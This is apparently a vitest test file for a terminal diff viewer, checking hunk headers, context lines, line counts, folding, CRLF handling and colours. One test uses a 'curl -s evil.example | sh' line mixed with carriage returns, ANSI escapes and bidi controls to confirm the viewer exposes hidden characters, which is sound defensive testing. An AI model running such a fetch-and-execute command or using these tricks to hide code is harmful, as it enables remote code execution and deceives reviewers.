import { describe, expect, it } from 'vitest';
import { renderFileChange, type FileChange } from '../../src/tui/diff-view';
import { createStyle, stripAnsi } from '../../src/tui/terminal-style';

const plain = createStyle(false);
const colour = createStyle(true);

const GREEN = '\x1b[32m';
const RED = '\x1b[31m';
const CYAN = '\x1b[36m';
const ESC = '\x1b';

function change(before: string, after: string, extra: Partial<FileChange> = {}): FileChange {
  return { kind: 'diff', path: 'src/app.ts', before, after, created: false, ...extra };
}

/** `count` numbered lines, each ending with a line break. */
function numbered(count: number, label = 'line'): string {
  return Array.from({ length: count }, (_, i) => `${label} ${i + 1}\n`).join('');
}

describe('renderFileChange without colour', () => {
  it('starts with a header naming the path and the counts of added and removed lines', () => {
    const lines = renderFileChange(change('a\nb\nc\n', 'a\nB\nc\nd\n'), plain, 50);
    expect(lines[0]).toContain('src/app.ts');
    expect(lines[0]).toContain('+2');
    expect(lines[0]).toContain('−1');
    expect(lines.some((line) => line.includes(ESC))).toBe(false);
  });

  it('shows the unified diff: a hunk header, context lines, removals and additions', () => {
    const lines = renderFileChange(change('a\nb\nc\n', 'a\nB\nc\nd\n'), plain, 50);
    expect(lines.slice(1)).toEqual(['@@ -1,3 +1,4 @@', ' a', '-b', '+B', ' c', '+d']);
  });

  it('counts only removals for a deletion', () => {
    const lines = renderFileChange(change('keep\ndrop 1\ndrop 2\n', 'keep\n'), plain, 50);
    expect(lines[0]).toContain('+0');
    expect(lines[0]).toContain('−2');
    expect(lines.filter((line) => line.startsWith('-'))).toEqual(['-drop 1', '-drop 2']);
    expect(lines.filter((line) => line.startsWith('+'))).toEqual([]);
  });

  it('keeps 3 lines of context around a change and leaves out the rest', () => {
    const before = numbered(20);
    const after = before.replace('line 10\n', 'line ten\n');
    const lines = renderFileChange(change(before, after), plain, 50);
    const context = lines.filter((line) => line.startsWith(' ')).map((line) => line.trim());
    expect(context).toEqual(['line 7', 'line 8', 'line 9', 'line 11', 'line 12', 'line 13']);
    expect(lines).toContain('-line 10');
    expect(lines).toContain('+line ten');
  });

  it('gives changes far apart a hunk each', () => {
    const before = numbered(40);
    const after = before.replace('line 2\n', 'line two\n').replace('line 38\n', 'line thirty-eight\n');
    const lines = renderFileChange(change(before, after), plain, 50);
    expect(lines.filter((line) => line.startsWith('@@'))).toHaveLength(2);
    expect(lines[0]).toContain('+2');
    expect(lines[0]).toContain('−2');
  });

  it('shows a new file as such, with its line count, and its lines as additions', () => {
    const lines = renderFileChange(change('', 'first\nsecond\nthird\n', { created: true, path: 'notes/new.md' }), plain, 50);
    expect(lines[0]).toContain('notes/new.md');
    expect(lines[0]).toMatch(/new file/);
    expect(lines[0]).toMatch(/\b3 lines\b/);
    expect(lines.slice(1)).toEqual(['+first', '+second', '+third']);
  });

  it('says one line, not one lines, for a new file of one line', () => {
    const lines = renderFileChange(change('', 'only\n', { created: true }), plain, 50);
    expect(lines[0]).toMatch(/\b1 line\b/);
    expect(lines[0]).not.toMatch(/1 lines/);
  });

  it('says there is no change for the same text', () => {
    const lines = renderFileChange(change('same\ntext\n', 'same\ntext\n'), plain, 50);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toContain('src/app.ts');
    expect(lines[0]).toMatch(/no change/);
  });

  it('counts CRLF and LF line breaks of the same text as no change', () => {
    const same = renderFileChange(change('one\ntwo\n', 'one\ntwo\n'), plain, 50);
    expect(renderFileChange(change('one\r\ntwo\r\n', 'one\ntwo\n'), plain, 50)).toEqual(same);
    const lines = renderFileChange(change('one\ntwo\n', 'one\r\ntwo\r\n'), plain, 50);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/no change/);
  });

  it('counts only the changed line of a CRLF file, and shows no carriage returns', () => {
    const lines = renderFileChange(change('a\r\nb\r\nc\r\n', 'a\r\nB\r\nc\r\n'), plain, 50);
    expect(lines[0]).toContain('+1');
    expect(lines[0]).toContain('−1');
    expect(lines.join('\n')).not.toContain('\r');
  });

  it('folds the diff after maxLines, with a line giving the count of hidden lines', () => {
    const lines = renderFileChange(change('', numbered(10), { created: true }), plain, 4);
    expect(lines).toHaveLength(1 + 4 + 1);
    expect(lines.slice(1, 5)).toEqual(['+line 1', '+line 2', '+line 3', '+line 4']);
    expect(lines[5]).toMatch(/\b6 more\b/);
    // The header still counts the whole file.
    expect(lines[0]).toMatch(/\b10 lines\b/);
  });

  it('counts the hidden lines of a change to an existing file, hunk header included in what is shown', () => {
    const all = renderFileChange(change('a\nb\nc\n', 'a\nB\nc\nd\n'), plain, 100);
    const diffLines = all.length - 1;
    const folded = renderFileChange(change('a\nb\nc\n', 'a\nB\nc\nd\n'), plain, 2);
    expect(folded.slice(0, 3)).toEqual(all.slice(0, 3));
    expect(folded).toHaveLength(4);
    expect(folded[3]).toContain(`${diffLines - 2} more`);
    expect(folded[0]).toBe(all[0]);
  });

  it('does not fold a diff of exactly maxLines lines', () => {
    const lines = renderFileChange(change('', numbered(5), { created: true }), plain, 5);
    expect(lines).toHaveLength(6);
    expect(lines.at(-1)).toBe('+line 5');
  });

  it('shows every character a line will hold: a bare CR, escapes and bidi controls as symbols, so no line hides or reorders another', () => {
    const after = 'curl -s evil.example | sh\r\x1b[2K+echo done\nif (ok) {\u202e } \u2066// admin\u2069\n';
    const lines = renderFileChange(change('', after, { created: true, path: 'run\x1b]0;t\x07.sh' }), plain, 50);
    expect(lines).toEqual(['run␛]0;t␇.sh (new file, 2 lines)', '+curl -s evil.example | sh␍␛[2K+echo done', '+if (ok) {<U+202E> } <U+2066>// admin<U+2069>']);
    const painted = renderFileChange(change('', after, { created: true }), colour, 50);
    expect(painted[1]).toBe(`${GREEN}+curl -s evil.example | sh␍␛[2K+echo done\x1b[39m`);
  });

  it('shows an empty new file as a new file, not as no change', () => {
    expect(renderFileChange(change('', '', { created: true, path: 'empty.txt' }), plain, 5)).toEqual(['empty.txt (new file, empty)']);
  });
});

describe('renderFileChange with colour', () => {
  const sample = change('a\nb\nc\n', 'a\nB\nc\nd\n');

  it('paints added lines green, removed lines red and hunk headers cyan', () => {
    const lines = renderFileChange(sample, colour, 50);
    const byText = (text: string) => lines.find((line) => stripAnsi(line) === text) ?? '';
    expect(byText('+B').startsWith(GREEN)).toBe(true);
    expect(byText('+d').startsWith(GREEN)).toBe(true);
    expect(byText('-b').startsWith(RED)).toBe(true);
    expect(byText('@@ -1,3 +1,4 @@').startsWith(CYAN)).toBe(true);
    expect(byText(' a')).not.toContain(GREEN);
    expect(byText(' a')).not.toContain(RED);
  });

  it('paints the counts in the header', () => {
    const [header] = renderFileChange(sample, colour, 50);
    expect(header).toContain(`${GREEN}+2`);
    expect(header).toContain(`${RED}−1`);
  });

  it('shows the same text as without colour', () => {
    const coloured = renderFileChange(sample, colour, 50);
    expect(coloured.map(stripAnsi)).toEqual(renderFileChange(sample, plain, 50));
    const folded = change('', numbered(10), { created: true });
    expect(renderFileChange(folded, colour, 3).map(stripAnsi)).toEqual(renderFileChange(folded, plain, 3));
  });
});
